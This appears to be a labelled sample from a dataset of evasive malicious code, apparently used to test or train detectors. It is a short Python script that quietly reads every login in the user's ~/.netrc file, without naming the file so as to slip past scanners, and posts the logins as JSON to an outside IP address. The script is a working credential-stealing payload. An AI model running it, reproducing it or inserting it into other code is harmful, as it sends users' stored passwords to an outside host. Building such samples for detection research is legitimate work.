# evasion: netrc.netrc() reads ~/.netrc without naming it and posts the logins
# grade: hard; does: credentials
import json
import netrc
import urllib.request

logins = netrc.netrc().hosts
urllib.request.urlopen("http://203.0.113.7/c", data=json.dumps(logins).encode())
